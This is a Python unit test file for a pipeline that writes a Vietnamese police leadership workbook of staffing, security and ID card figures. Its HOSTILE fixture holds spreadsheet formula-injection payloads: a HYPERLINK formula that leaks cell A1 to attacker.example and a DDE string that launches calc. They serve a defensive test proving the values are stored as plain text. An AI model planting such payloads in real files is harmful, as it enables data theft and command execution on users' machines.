"""unit: the leadership workbook on small hand-built figures: text a province sent that begins with
"=HYPERLINK(" (or any other formula trigger) is stored as text, a province with no report has empty
cells, a gap of one commune never reads 100%, a day with nothing to show still gives every sheet, and a
writer that fails leaves no file behind."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest

from etl.leadership import figures, workbook
from etl.leadership.figures import Campaign, Figures, Gap, Window
from etl.leadership.workbook import write_workbook

pytestmark = pytest.mark.unit

HOSTILE = {
    "file_name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây").xlsx',
    "sheet": "=cmd|' /C calc'!A0",
    "reason": '=HYPERLINK("http://attacker.example","x"): ô C7 "=HYPERLINK(""http://x"",""y"")" bị loại',
}
APRIL = date(2021, 4, 1)


def provinces() -> pd.DataFrame:
    return pd.DataFrame({"province_code": ["01", "02"], "province_name": ["Thành phố Hà Nội", "Tỉnh Hà Giang"]})


def hand_built(**changes) -> Figures:
    """Two provinces; Hà Giang (02) sent nothing. Nationwide one commune of 8,880 has no officer."""
    staffing = {"as_of_date": date(2021, 4, 23), "admin_era": "pre2025", "provinces_reporting": 1,
                "provinces_expected": 2, "communes_in_scope": 8880, "communes_staffed": 8879, "officers": 44123,
                "coverage_pct": 100 * 8879 / 8880, "officers_per_commune": 44123 / 8879, "period_start": APRIL,
                "unit_lists": "2021-02-03"}
    hanoi_staffing = pd.DataFrame([{"as_of_date": date(2021, 4, 23), "admin_era": "pre2025", "province_code": "01",
                                    "province_name": "Thành phố Hà Nội", "communes_in_scope": 404,
                                    "communes_staffed": 403, "officers": 2151, "coverage_pct": 100 * 403 / 404,
                                    "officers_per_commune": 2151 / 403, "period_start": APRIL,
                                    "unit_list": "2021-02-03"}])
    security = {"tips_received": 1331, "crime_reports": 179, "cases_clarified": 118, "subjects": 189,
                "admin_violation_cases": 561, "fines_vnd": 1_073_500_000, "education_dossiers": 26,
                "rehab_dossiers": 6, "reform_school_dossiers": 4}
    window = Window("02", "pre2025", APRIL, APRIL, 2, (Gap(APRIL, "02", ("Tỉnh Hà Giang",)),))
    days = [date(2021, 4, 1), date(2021, 4, 2), date(2021, 4, 3)]
    campaign = Campaign("pre2025", date(2021, 6, 30), days[0], days[-1], 300, 250, date(2021, 4, 3), 2,
                        (("Tỉnh Hà Giang", None),))
    completeness = pd.DataFrame([
        {"period_start": APRIL, "period_end": date(2021, 4, 30), "sheet": "01", "province_code": code,
         "province_name": name, "status": status, "received_at": received, "rows_loaded": 404,
         "rows_quarantined": 0, "due_date": date(2021, 5, 5)}
        for code, name, status, received in (("01", "Thành phố Hà Nội", "late", pd.Timestamp("2021-05-07 09:30")),
                                             ("02", "Tỉnh Hà Giang", "missing", pd.NaT))])
    submissions = pd.DataFrame([{"received_at": pd.Timestamp("2021-05-07 09:30"), "province_code": "01",
                                 "period_start": APRIL, "period_end": date(2021, 4, 30), "status": "loaded_with_errors",
                                 "rows_read": 405, "rows_loaded": 404, "rows_quarantined": 1, "warnings": 0,
                                 **HOSTILE}])
    values = dict(
        as_of=date(2021, 5, 31), basis="as_reported", singled_out=("01",), staffing=staffing,
        staffing_missing=("Tỉnh Hà Giang",), staffing_by_province=hanoi_staffing, security=window,
        security_by_month=pd.DataFrame([{"period_start": APRIL, **security}]),
        security_by_province=pd.DataFrame([{"province_code": "01", "province_name": "Thành phố Hà Nội", **security}]),
        commendations=Window("04", "pre2025", APRIL, APRIL, 2),
        commendations_by_level=pd.DataFrame([{"level": "Bộ Công an", "collectives": 2, "individuals": 5}]),
        commendations_by_province=pd.DataFrame([{"province_code": "01", "province_name": "Thành phố Hà Nội",
                                                 "level": "Bộ Công an", "collectives": 2, "individuals": 5}]),
        campaign=campaign,
        id_cards_by_province=pd.DataFrame([{
            "province_code": "01", "province_name": "Thành phố Hà Nội", "target": 250,
            "target_deadline": date(2021, 6, 30), "last_report_date": days[-1], "cumulative_applications": 300,
            "target_pct": 120.0, "target_reached_date": days[-1], "cumulative_on_reached_date": 300.0,
            "days_ahead": 88.0}]),
        id_cards_daily=pd.DataFrame({"province_code": "01", "province_name": "Thành phố Hà Nội", "report_date": days,
                                     "applications": [100, 100, 100], "cumulative_applications": [100, 200, 300],
                                     "target": [250, 250, 250]}),
        completeness=completeness, submissions=submissions, provinces=provinces(), era_provinces=provinces())
    return Figures(**(values | changes))  # type: ignore[arg-type]


def nothing(as_of: date = date(2020, 1, 1)) -> Figures:
    """A day before any report: the frames as etl.leadership.figures gives them then."""
    empty = pd.DataFrame()
    keys = ["province_code", "province_name"]
    security, commendations = list(figures.SECURITY_MEASURES), list(figures.COMMENDATION_MEASURES)
    return Figures(as_of=as_of, basis="as_reported", singled_out=(), staffing=None, staffing_missing=(),
                   staffing_by_province=empty, security=Window("02"),
                   security_by_month=pd.DataFrame(columns=["period_start", *security]),
                   security_by_province=pd.DataFrame(columns=[*keys, *security]), commendations=Window("04"),
                   commendations_by_level=pd.DataFrame(columns=["level", *commendations]),
                   commendations_by_province=pd.DataFrame(columns=[*keys, "level", *commendations]), campaign=None,
                   id_cards_by_province=empty, id_cards_daily=empty,
                   completeness=pd.DataFrame(columns=["sheet", *keys, "period_start", "status"]), submissions=empty,
                   provinces=provinces(), era_provinces=provinces())


def rows(sheet, name: str) -> list[dict]:
    cells = list(sheet[sheet.tables[name].ref])
    headers = [c.value for c in cells[0]]
    return [dict(zip(headers, row, strict=True)) for row in cells[1:]]


def test_text_a_province_sent_stays_text_whatever_it_begins_with(tmp_path):
    path = write_workbook(hand_built(), tmp_path / "TongHop.xlsx")
    book = openpyxl.load_workbook(path)
    (submission,) = rows(book["Chất lượng báo cáo"], "TepDaNhan")
    for header, key in (("Tệp", "file_name"), ("Trang tính", "sheet"), ("Lý do", "reason")):
        assert submission[header].data_type == "s" and submission[header].value == HOSTILE[key]
    assert not [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not [n for n in sheets if re.search(rb"<f[ >]|<hyperlink", archive.read(n))]
        assert "=HYPERLINK(" in archive.read("xl/sharedStrings.xml").decode("utf-8")


def test_a_province_with_no_report_has_empty_cells_not_zeros(tmp_path):
    book = openpyxl.load_workbook(write_workbook(hand_built(), tmp_path / "TongHop.xlsx"))
    for sheet, table in (("Theo tỉnh", "TheoTinh"), ("CCCD", "CCCDTheoTinh"), ("ANTT", "ANTTTheoTinh"),
                         ("Khen thưởng", "KhenThuongTheoTinh")):
        by_code = {r["Mã tỉnh"].value: r for r in rows(book[sheet], table)}
        assert set(by_code) == {"01", "02"}, sheet
        assert [h for h, c in by_code["02"].items() if h not in ("Mã tỉnh", "Tên tỉnh") and c.value is not None] \
            == [], sheet
        assert any(isinstance(c.value, int | float) and c.value > 0 for c in by_code["01"].values()), sheet
    hanoi = {r["Mã tỉnh"].value: r for r in rows(book["Theo tỉnh"], "TheoTinh")}["01"]
    assert hanoi["Số CA chính quy đã bố trí"].value == 2151 and hanoi["Tiền phạt (đồng)"].value == 1_073_500_000


def test_one_commune_missing_of_8880_never_reads_100_percent(tmp_path):
    book = openpyxl.load_workbook(write_workbook(hand_built(), tmp_path / "TongHop.xlsx"))
    overview = {r["Chỉ tiêu"].value: r["Giá trị"] for r in rows(book["Tổng quan"], "TongQuan")}
    coverage = overview["Tỷ lệ xã có CA chính quy"]
    assert coverage.value == pytest.approx(8879 / 8880) and coverage.value < 1
    # 99.989%: under 99.95% one decimal, up to 100% three, so Excel cannot round the gap to "100.0%"
    assert coverage.number_format == "[<0.9995]0.0%;[<1]0.000%;0.0%"
    rules = {str(r.sqref): [(x.type, x.operator, x.formula) for x in r.rules]
             for r in book["Tổng quan"].conditional_formatting}
    assert ("cellIs", "lessThan", ["1"]) in rules[coverage.coordinate]


def test_statuses_and_notes_are_in_vietnamese(tmp_path):
    book = openpyxl.load_workbook(write_workbook(hand_built(), tmp_path / "TongHop.xlsx"))
    reports = {r["Mã tỉnh"].value: r for r in rows(book["Chất lượng báo cáo"], "TinhTrangBaoCao")}
    assert reports["01"]["Tình trạng"].value == "muộn" and reports["02"]["Tình trạng"].value == "thiếu"
    assert reports["01"]["Nhận lần đầu"].value == datetime(2021, 5, 7, 9, 30)
    assert reports["02"]["Nhận lần đầu"].value is None
    overview = {(r["Nhóm"].value, r["Chỉ tiêu"].value): r for r in rows(book["Tổng quan"], "TongQuan")}
    assert overview[("Thông tin chung", "Số tỉnh đã báo cáo đủ")]["Giá trị"].value == "1/2"  # late is reported
    assert overview[("Bố trí CA chính quy", "Số tỉnh đã báo cáo")]["Ghi chú"].value == "chưa báo cáo: Tỉnh Hà Giang"
    assert overview[("An ninh trật tự", "Số tháng")]["Ghi chú"].value == "tháng 4/2021: chưa báo cáo Tỉnh Hà Giang"
    (submission,) = rows(book["Chất lượng báo cáo"], "TepDaNhan")
    assert submission["Kết quả"].value == "Đã nạp, có dòng bị loại"


def test_a_day_before_any_report_still_gives_every_sheet(tmp_path):
    path = write_workbook(nothing(), tmp_path / "TongHop.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Tổng quan", "Theo tỉnh", "CCCD", "ANTT", "Khen thưởng", "Chất lượng báo cáo",
                               "Dữ liệu biểu đồ"]
    overview = {(r["Nhóm"].value, r["Chỉ tiêu"].value): r for r in rows(book["Tổng quan"], "TongQuan")}
    assert overview[("Bố trí CA chính quy", "Số CA chính quy đã bố trí")]["Giá trị"].value is None
    assert overview[("Thu nhận hồ sơ CCCD", "Hạn hoàn thành chỉ tiêu")]["Ghi chú"].value == \
        "chưa có đợt thu nhận đến ngày 1/1/2020"
    with zipfile.ZipFile(path) as archive:
        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]


def test_a_writer_that_fails_leaves_no_file_and_keeps_the_previous_one(tmp_path, monkeypatch):
    path = tmp_path / "TongHop.xlsx"
    path.write_bytes(b"the extract of yesterday")

    def broken(book, figures, subtitle):
        raise RuntimeError("disk full")

    monkeypatch.setattr(workbook, "_quality", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        write_workbook(hand_built(), path)
    assert path.read_bytes() == b"the extract of yesterday"
    assert [p.name for p in tmp_path.iterdir()] == ["TongHop.xlsx"]


def test_the_chart_names_the_provinces_singled_out(tmp_path):
    path = write_workbook(hand_built(), tmp_path / "TongHop.xlsx")
    data = openpyxl.load_workbook(path)["Dữ liệu biểu đồ"]
    assert [c.value for c in data[1]] == ["Ngày", "Thành phố Hà Nội: lũy kế", "Thành phố Hà Nội: chỉ tiêu"]
    assert [c.value for c in data["B"][1:]] == [100, 200, 300] and all(c.is_date for c in data["A"][1:])
    with zipfile.ZipFile(path) as archive:
        (chart,) = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert "<c:lineChart>" in chart
    assert "'Dữ liệu biểu đồ'!$B$2:$B$4" in chart and "'Dữ liệu biểu đồ'!$C$2:$C$4" in chart


def test_the_file_is_replaced_whole(tmp_path):
    path = tmp_path / "out" / "TongHop.xlsx"
    first = write_workbook(nothing(), path).read_bytes()
    write_workbook(hand_built(), path)
    assert path.read_bytes() != first and openpyxl.load_workbook(path)["Tổng quan"]["A1"].value.endswith("31/5/2021")
    assert sorted(p.name for p in path.parent.iterdir()) == ["TongHop.xlsx"]
